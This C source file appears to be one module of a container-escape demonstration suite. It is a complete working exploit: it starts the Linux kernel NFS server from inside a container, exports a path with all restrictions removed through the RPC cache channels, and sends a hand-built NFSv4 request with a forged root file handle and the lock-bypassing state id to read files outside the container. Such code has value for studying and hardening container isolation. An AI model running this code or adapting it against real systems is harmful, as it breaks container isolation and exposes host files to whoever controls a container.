// SPDX-License-Identifier: GPL-2.0-only
/*
 * escape nfs EXPORTED DIRECTORY NAME: let the kernel's NFS server export the part of a file system
 * that is mounted in the container, to a client in the container's own network namespace. Then read
 * the file NAME in a directory of the file system's root by a forged file handle.
 *
 * The server's threads open files with the kernel's rights. The server is started by its generic
 * netlink family, or, before 6.10, by its file system.
 */
#include <arpa/inet.h>
#include <endian.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../lib/genl.h"
#include "escape.h"

#define PORT 2049
#define CHANNEL(cache) "/proc/self/net/rpc/" cache "/channel"
#define FILES "/nfsd"

/* From include/uapi/linux/nfsd_netlink.h */
enum {
	THREADS_SET = 2,
	VERSION_SET = 4,
	LISTENER_SET = 6,
};

/* Starting and stopping the server */
static void say_version(struct genl_message *message, void *arg)
{
	struct nlattr *version = genl_nest(message, 1);

	genl_put_u32(message, 1, 4);
	genl_put_u32(message, 2, 0);
	genl_put(message, 3, NULL, 0);
	genl_end(message, version);
	(void)arg;
}

static void say_listener(struct genl_message *message, void *arg)
{
	struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_port = htons(PORT),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	struct nlattr *listener = genl_nest(message, 1);

	genl_put(message, 1, &address, sizeof(address));
	genl_put(message, 2, "tcp", sizeof("tcp"));
	genl_end(message, listener);
	(void)arg;
}

static void say_threads(struct genl_message *message, void *arg)
{
	genl_put_u32(message, 1, *(int *)arg);
}

static void tell(int command, void (*fill)(struct genl_message *message, void *arg), void *arg,
		 const char *what)
{
	int err = genl_tell("nfsd", command, fill, arg);

	errno = -err;
	must(err, what);
}

static int has_family(void)
{
	int fd = must(socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_GENERIC), "socket");
	int ret = genl_family(fd, "nfsd");

	close(fd);
	return ret >= 0;
}

static void start_by_files(void)
{
	mkdir(FILES, 0700);
	must(mount("nfsd", FILES, "nfsd", 0, NULL), "mount of nfsd");
	write_to(FILES "/versions", "-3 +4\n");
	write_to(FILES "/portlist", "tcp 2049\n");
	write_to(FILES "/threads", "1\n");
}

static void start(int by_family)
{
	int threads = 1;

	if (!by_family) {
		start_by_files();
		return;
	}
	tell(VERSION_SET, say_version, NULL, "version-set");
	tell(LISTENER_SET, say_listener, NULL, "listener-set");
	tell(THREADS_SET, say_threads, &threads, "threads-set");
}

static void stop(int by_family)
{
	int threads = 0;

	if (by_family)
		tell(THREADS_SET, say_threads, &threads, "threads-set");
	else
		write_to(FILES "/threads", "0\n");
}

/*
 * Export without restrictions: with an identifier, from insecure ports, without squashing and
 * subtree check.
 */
static void export_it(const char *path)
{
	char line[512];

	write_to(CHANNEL("auth.unix.ip"), "nfsd 127.0.0.1 2147483647 self\n");
	write_to(CHANNEL("auth.unix.gid"), "0 2147483647 1 0\n");
	snprintf(line, sizeof(line), "self %s 2147483647 9218 -2 -2 0\n", path);
	write_to(CHANNEL("nfsd.export"), line);
	snprintf(line, sizeof(line), "self 1 \\x00000000 2147483647 %s\n", path);
	write_to(CHANNEL("nfsd.fh"), line);
}

/* NFSv4.0 (RFC 7530): one request and its answer */
enum {
	OP_LOOKUP = 15,
	OP_PUTFH = 22,
	OP_READ = 25,
};

/**
 * struct request - a request in XDR
 * @len: in words
 * @words: big-endian; the first is the record's length
 */
struct request {
	unsigned int len;
	uint32_t words[128];
};

static void put(struct request *request, uint32_t word)
{
	request->words[request->len++] = htobe32(word);
}

static void put_bytes(struct request *request, const void *bytes, size_t len)
{
	put(request, len);
	memcpy(request->words + request->len, bytes, len);
	request->len += (len + 3) / 4;
}

static void put_call(struct request *request)
{
	put(request, 0); /* the record's length, filled in later */
	put(request, 1); /* xid */
	put(request, 0); /* a call, and the RPC version */
	put(request, 2);
	put(request, 100003); /* NFS, version 4, COMPOUND */
	put(request, 4);
	put(request, 1);
	put(request, 1); /* AUTH_SYS: stamp, machine, uid, gid, no groups */
	put(request, 5 * 4);
	put(request, 0);
	put(request, 0);
	put(request, 0);
	put(request, 0);
	put(request, 0);
	put(request, 0); /* no verifier */
	put(request, 0);
}

/*
 * Version 1, no authentication, a file system by its number, a file by inode number and generation.
 * The root of ext4 is inode 2, and generation 0 matches any.
 */
static void put_handle(struct request *request)
{
	const uint32_t numbers[] = { 0, 2, 0 };
	unsigned char handle[16] = { 1, 0, 1, 1 };

	memcpy(handle + 4, numbers, sizeof(numbers));
	put_bytes(request, handle, sizeof(handle));
}

static void put_compound(struct request *request, const char *directory, const char *name)
{
	unsigned int i;

	put(request, 0); /* tag, minor version, operations */
	put(request, 0);
	put(request, 4);
	put(request, OP_PUTFH);
	put_handle(request);
	put(request, OP_LOOKUP);
	put_bytes(request, directory, strlen(directory));
	put(request, OP_LOOKUP);
	put_bytes(request, name, strlen(name));
	put(request, OP_READ);
	for (i = 0; i < 4; i++)
		put(request, ~0U); /* the special state id that bypasses locks */
	put(request, 0); /* offset 0, and the number of bytes */
	put(request, 0);
	put(request, 512);
}

static ssize_t receive(int fd, uint32_t *words, size_t size)
{
	size_t got = 0;

	do {
		ssize_t n = must(read(fd, (char *)words + got, size - got), "read");

		if (!n)
			break;
		got += n;
	} while (got < 4 || got < 4 + (be32toh(words[0]) & ~0x80000000U));
	return got;
}

/* Words before the file's text in an answer: 8 words of RPC, the tag, four operations. */
#define STATUS 7
#define TEXT_LEN 19
#define TEXT 20

static void ask_for(const char *directory, const char *name)
{
	struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_port = htons(PORT),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");
	struct request request = {};
	uint32_t answer[1024] = {};

	must(connect(fd, (struct sockaddr *)&address, sizeof(address)), "connect");
	put_call(&request);
	put_compound(&request, directory, name);
	request.words[0] = htobe32(0x80000000U | ((request.len - 1) * 4));
	must(write(fd, request.words, request.len * 4), "write");
	if (receive(fd, answer, sizeof(answer)) <= TEXT * 4 || answer[STATUS])
		printf("answer %u, status %u\n", be32toh(answer[STATUS - 1]),
		       be32toh(answer[STATUS]));
	else
		printf("%.*s\n", (int)be32toh(answer[TEXT_LEN]), (char *)(answer + TEXT));
	close(fd);
}

int nfs(char **args)
{
	int by_family = has_family();

	start(by_family);
	export_it(args[0]);
	ask_for(args[1], args[2]);
	stop(by_family);
	return 0;
}
